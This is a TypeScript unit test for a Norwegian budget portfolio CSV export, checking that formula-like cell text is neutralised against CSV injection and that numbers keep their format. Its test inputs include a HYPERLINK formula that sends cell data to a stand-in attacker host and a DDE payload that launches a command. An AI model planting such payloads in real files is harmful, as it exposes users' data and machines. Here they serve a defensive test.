// The portfolio CSV keeps its format for Norwegian Excel (BOM, semicolons, CRLF, decimal comma) and
// neutralises text a spreadsheet would run as a formula (CSV injection), while amounts stay numbers.
import { expect } from 'chai';
import { portfolioCsv, toCsv } from '../../../server/spreadsheets/portfolioExport.js';
import type { Portfolio, PortfolioRow } from '../../../server/commands/buildPortfolio.js';

const figures = { frameOre: 100_000_00, paidOre: 150_000_50, remainingOre: -50_000_50, spentOre: 0, unspentOre: 7 };

function row(name: string, code = 'NAPHA'): PortfolioRow {
  return {
    centre: { code, name },
    budgetLine: { chapter: 743, item: 62, name: 'Statlige forvaltningsoppgaver' },
    accountsStatus: null,
    ...figures,
  };
}

describe('server/spreadsheets/portfolioExport: CSV', () => {
  it('prefixes text starting with = + - @ tab or CR with an apostrophe, quoting where needed', () => {
    const hostile = [
      '=HYPERLINK("https://evil.example/?"&A1;"Klikk")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1+1',
      '\r=1+1',
      '\uFF1D1+1',
    ];
    const portfolio: Portfolio = {
      year: 2030,
      rows: hostile.map((name, index) => row(name, index === 0 ? '=CODE' : 'NAPHA')),
      byLine: [],
      byCentre: [],
      totals: figures,
    };
    const lines = portfolioCsv(portfolio)
      .replace(/^\ufeff/, '')
      .split('\r\n');
    expect(lines.at(-1)).to.equal('');
    const cells = lines.slice(1, 1 + hostile.length).map((line) => line.slice(0, line.indexOf(';743;62;')));
    expect(cells).to.deep.equal([
      `'=CODE;"'=HYPERLINK(""https://evil.example/?""&A1;""Klikk"")";2030`,
      `NAPHA;'+1+cmd|' /C calc'!A0;2030`,
      `NAPHA;'-2+3;2030`,
      `NAPHA;'@SUM(A1:A9);2030`,
      `NAPHA;'\t=1+1;2030`,
      `NAPHA;"'\r=1+1";2030`,
      `NAPHA;'\uFF1D1+1;2030`,
    ]);
  });

  it('leaves amounts (also negative ones) and other numbers as numbers in the same format as before', () => {
    const text = portfolioCsv({
      year: 2030,
      rows: [row('Nasjonalt kompetansesenter; psykisk helse')],
      byLine: [],
      byCentre: [],
      totals: figures,
    });
    expect(text).to.equal(
      '\ufeffSenter;Navn;År;Kapittel;Post;Ramme (kr);Utbetalt (kr);Gjenstår (kr);Brukt (kr);Ubrukt (kr);Regnskap\r\n' +
        'NAPHA;"Nasjonalt kompetansesenter; psykisk helse";2030;743;62;100000,00;150000,50;-50000,50;0,00;0,07;\r\n' +
        'Sum;;2030;;;100000,00;150000,50;-50000,50;0,00;0,07;\r\n',
    );
  });

  it('quotes quotes and line breaks inside a cell', () => {
    expect(toCsv([['a "b"', 'c\nd', 'e\r\nf', -3, -4n]])).to.equal('\ufeff"a ""b""";"c\nd";"e\r\nf";-3;-0,04\r\n');
  });
});
